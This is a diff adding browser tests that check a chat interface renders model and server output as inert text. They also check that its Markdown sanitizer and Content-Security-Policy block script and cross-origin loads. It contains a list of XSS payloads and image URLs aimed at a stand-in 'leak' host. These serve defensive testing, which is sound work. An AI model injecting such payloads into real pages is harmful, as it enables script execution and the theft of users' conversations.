@@ -486,6 +486,251 @@ def test_markdown_from_the_model_is_rendered_and_its_html_stays_text(
     expect(page.locator(".msg.user .bubble").last).to_have_text(question)
 
 
+def _html(n: int) -> str:
+    """Markup that runs a script (setting `window.__xss`) or loads from another origin, if
+    it is ever parsed as HTML."""
+    return (
+        f'<img src="http://127.0.0.1:9/leak?{n}" onerror="window.__xss={n}">'
+        f"<script>window.__xss={n}</script><u>{n}</u>"
+    )
+
+
+def test_text_from_the_server_is_shown_as_text_everywhere(
+    page: Page, chat_servers: Callable[..., ChatServer]
+) -> None:
+    """Whatever the server sends (a model's answer, tool calls and results, titles, model
+    names, error messages) shows as text: nothing in it runs or loads."""
+    server = chat_servers()
+    thread_id = "a" * 32
+    stream_url = f"/v1/chat/stream?thread_id={thread_id}&run=1"
+    info = {
+        "transport": _html(1),
+        "database": "sqlite",
+        "busy_policy": "reject",
+        "worker_mode": False,
+        "default_model": "offline",
+        "models": [
+            {"spec": "offline", "available": True, "reason": None},
+            {"spec": _html(2), "available": False, "reason": _html(3)},
+        ],
+    }
+    call = {"id": "call-1", "name": _html(4), "args": {_html(5): _html(6)}}
+    answer_text = "Answer " + _html(7) + " [a link](javascript:window.__xss=8)"
+    thread = {
+        "thread_id": thread_id,
+        "title": _html(9),
+        "active_run": None,
+        "last_error": {"code": _html(10)},
+        "messages": [
+            {"id": "s", "role": "summary", "text": "Summary: " + _html(11)},
+            {"id": "h1", "role": "user", "text": _html(12)},
+            {"id": "ai1", "role": "assistant", "text": "", "tool_calls": [call]},
+            {
+                "id": "t1",
+                "role": "tool",
+                "tool_call_id": "call-1",
+                "status": "ok",
+                "text": _html(13),
+            },
+            {"id": "ai2", "role": "assistant", "text": answer_text, "tool_calls": []},
+        ],
+    }
+    listed = {"threads": [{"thread_id": thread_id, "title": _html(14), "streaming": False}]}
+    # The answer's HTML, cut as a model's tokens cut it.
+    chunks = [answer_text[i : i + 3] for i in range(0, len(answer_text), 3)]
+
+    def json_route(body: Any, status: int = 200) -> Callable[[Route], None]:
+        return lambda route: route.fulfill(status=status, json=body)
+
+    page.route("**/info", json_route(info))
+    page.route("**/v1/threads", json_route(listed))
+    page.route("**/v1/thread?*", json_route(thread))
+    page.route(
+        "**/v1/chat/message",
+        json_route({"thread_id": thread_id, "run": 1, "stream_url": stream_url}, 202),
+    )
+    page.route(
+        "**/v1/chat/stream*",
+        lambda route: route.fulfill(
+            status=200,
+            content_type="text/event-stream",
+            body=sse(
+                ("system", {"type": "start", "run": 1, "model": _html(15), "cached": False}),
+                ("tool_call", call),
+                *(("chunk", {"text": chunk}) for chunk in chunks),
+                ("system", {"type": "error", "message": _html(16)}),
+            ),
+        ),
+    )
+    elsewhere: list[str] = []
+    page.on(
+        "request",
+        lambda request: (
+            None if request.url.startswith(server.url) else elsewhere.append(request.url)
+        ),
+    )
+    page.goto(server.url)
+    expect(page.locator("#service-info")).to_contain_text(_html(1))
+    expect(page.locator("#model option[disabled]")).to_have_text(_html(2))
+    send(page, _html(17))
+    answer = page.locator(ANSWER).last
+    expect(answer).to_have_attribute("data-state", "error")
+    expect(page.locator("#title")).to_contain_text("<img")
+    expect(page.locator(".msg.user .bubble")).to_have_text(_html(17))
+    expect(answer.locator(".tool-name")).to_have_text(_html(4))
+    expect(answer.locator(".tool-result")).to_have_text(_html(13))  # from the saved thread
+    expect(answer.locator(".badge")).to_have_text(_html(15))
+    expect(answer.locator(".error")).to_contain_text(_html(16))
+    expect(answer.locator(".text")).to_contain_text(_html(7))
+    expect(page.locator("#threads .name")).to_have_text(_html(14))
+
+    # The same, as the saved thread shows after a reload; and an error line from the API.
+    page.reload()
+    expect(page.locator("#title")).to_have_text(_html(9))
+    expect(page.locator(".msg.summary")).to_contain_text(_html(11))
+    expect(page.locator(".msg.user .bubble")).to_have_text(_html(12))
+    expect(page.locator(".tool-result")).to_have_text(_html(13))
+    expect(page.locator(".msg.assistant .error")).to_contain_text(_html(10))
+    page.unroute("**/v1/chat/message")
+    page.route("**/v1/chat/message", json_route({"code": "x", "message": _html(18)}, 400))
+    send(page, "again")
+    expect(page.locator("#status")).to_have_text(_html(18))
+
+    expect(page.locator("img, script:not([src]), u, [onerror]")).to_have_count(0)
+    page.locator(".msg.assistant .text a").click()
+    assert page.evaluate("window.__xss") is None
+    assert elsewhere == []
+
+
+UNTRUSTED_MARKDOWN = [
+    "<img src=x onerror=window.__xss=1>",
+    "<script>window.__xss=2</script>",
+    "<iframe src=javascript:window.__xss=3></iframe>",
+    "<svg onload=window.__xss=4>",
+    '<a href="javascript:window.__xss=5">a</a>',
+    "[x](javascript:window.__xss=6)",
+    "[x](JaVaScRiPt:window.__xss=7)",
+    "[x](&#106;avascript:window.__xss=8)",
+    "[x](<javascript:window.__xss=9>)",
+    "[x](data:text/html,<script>window.__xss=10</script>)",
+    "<javascript:window.__xss=11>",
+    "[x][r]\n\n[r]: javascript:window.__xss=12",
+    "![x](http://127.0.0.1:9/leak?secret)",
+    "![x](javascript:window.__xss=13)",
+    '[x](http://a "t\\" onmouseover=window.__xss=14")',
+    "```html\n<img src=x onerror=window.__xss=15>\n```",
+    "| a |\n|---|\n| <img src=x onerror=window.__xss=16> |",
+    "<details open ontoggle=window.__xss=17>",
+    "<style>@import 'http://127.0.0.1:9/css'</style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=18>",
+    "<!-- <img src=x onerror=window.__xss=19> -->",
+    "[<img src=x onerror=window.__xss=20>](http://a)",
+    "- [ ] <input autofocus onfocus=window.__xss=21>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__xss=22>">',
+]
+
+
+def test_untrusted_markdown_is_safe_at_every_step_of_its_stream(page: Page) -> None:
+    """Rendered whole, and live after every character (an answer's tags and links arrive in
+    pieces), model Markdown gives only harmless markup: no element that runs or loads, no
+    event handler, no link but to http(s), mailto or this page; links open without access
+    to the page."""
+    page.goto("about:blank")
+    page.add_script_tag(path=_static("vendor/marked.umd.js"))
+    page.add_script_tag(path=_static("vendor/purify.min.js"))
+    page.add_script_tag(path=_static("markdown.js"))
+    unsafe = page.evaluate(
+        """(payloads) => {
+            const tags = new Set(["P", "A", "STRONG", "EM", "CODE", "PRE", "UL", "OL", "LI",
+                "H1", "H2", "H3", "BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
+                "BR", "HR", "DEL", "INPUT", "SPAN", "DIV", "BUTTON"]);
+            const unsafe = [];
+            const check = (root, what) => {
+                for (const node of root.querySelectorAll("*")) {
+                    if (!tags.has(node.tagName)) unsafe.push([what, node.outerHTML]);
+                    for (const { name, value } of node.attributes) {
+                        if (/^on|^(src|srcset|style|action|formaction|autofocus)$/.test(name))
+                            unsafe.push([what, node.outerHTML]);
+                        if (name === "href" && !["http:", "https:", "mailto:"].includes(
+                                new URL(value, location.href).protocol))
+                            unsafe.push([what, node.outerHTML]);
+                    }
+                    if (node.tagName === "A" && node.rel !== "noopener noreferrer nofollow")
+                        if (node.hasAttribute("href")) unsafe.push([what, node.outerHTML]);
+                    if (node.tagName === "INPUT" && node.type !== "checkbox")
+                        unsafe.push([what, node.outerHTML]);
+                }
+            };
+            for (const payload of payloads) {
+                const text = "Before.\\n\\n" + payload + "\\n\\nAfter.";
+                const whole = document.createElement("div");
+                Markdown.render(whole, text);
+                check(whole, text);
+                const live = new Markdown.LiveMarkdown(document.createElement("div"));
+                for (let end = 1; end <= text.length; end++) {
+                    live.update(text.slice(0, end));
+                    check(live.target, text.slice(0, end));
+                }
+            }
+            return unsafe.slice(0, 5);
+        }""",
+        UNTRUSTED_MARKDOWN,
+    )
+    assert unsafe == []
+    assert page.evaluate("window.__xss") is None
+
+
+def test_the_page_lets_nothing_inline_run_nor_load_from_elsewhere(
+    page: Page, chat_servers: Callable[..., ChatServer]
+) -> None:
+    """The second line of defence, should markup from a model ever get past the renderer:
+    the page's Content-Security-Policy runs no inline script and loads nothing from
+    another origin (an image URL can carry the conversation away)."""
+    server = chat_servers()
+    # Requests to another origin, and how each ended: the browser must not even send them.
+    elsewhere: list[str] = []
+    page.on(
+        "requestfinished",
+        lambda request: (
+            None if request.url.startswith(server.url) else elsewhere.append(request.url)
+        ),
+    )
+    page.on(
+        "requestfailed",
+        lambda request: (
+            None
+            if request.url.startswith(server.url)
+            else elsewhere.append(f"{request.url} {request.failure}")
+        ),
+    )
+    page.goto(server.url)
+    page.evaluate(
+        """() => {
+            window.__violations = [];
+            document.addEventListener("securitypolicyviolation", (event) => {
+                window.__violations.push(event.violatedDirective);
+            });
+            const markup = document.createElement("div");
+            markup.innerHTML = '<img src="http://127.0.0.1:9/leak?secret"'
+                + ' onerror="window.__xss = 1">';
+            document.querySelector("#messages").append(markup);
+        }"""
+    )
+    page.wait_for_function("() => window.__violations.length >= 2")
+    assert sorted(page.evaluate("window.__violations")) == ["img-src", "script-src-attr"]
+    assert page.evaluate("window.__xss") is None
+    assert elsewhere == ["http://127.0.0.1:9/leak?secret csp"]
+    # The same page under /static, and the files it loads, come with the same policy.
+    for path in ("/", "/static/index.html", "/static/app.js"):
+        policy = page.request.get(server.url + path).headers["content-security-policy"]
+        assert "default-src 'self'" in policy
+    # The UI works under it: the whole answer of a real question, with its tool call.
+    send(page, "what is 12*7")
+    answer = page.locator(ANSWER).last
+    expect(answer).to_have_attribute("data-state", "done")
+    expect(answer.locator(".text")).to_contain_text("The answer is 84")
+
+
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_code_blocks_stream_in_pieces_and_copy(
     new_page: PageFactory, chat_servers: Callable[..., ChatServer], shots: Path, scheme: str
@@ -797,7 +1042,7 @@ def test_phone_and_desktop_layouts_light_and_dark(
         expect(phone.locator("#menu")).to_have_attribute("aria-expanded", "true")
         expect(phone.locator(f'.thread[data-thread-id="{thread_id}"]')).to_be_visible()
         phone.wait_for_function(  # the end of the slide-in, for the screenshot
-            "getComputedStyle(document.querySelector('#sidebar')).transform === 'none'"
+            "() => getComputedStyle(document.querySelector('#sidebar')).transform === 'none'"
         )
         phone.screenshot(path=shots / f"phone-drawer-{scheme}.png")
         phone.click("#backdrop", position={"x": PHONE["width"] - 20, "y": 400})
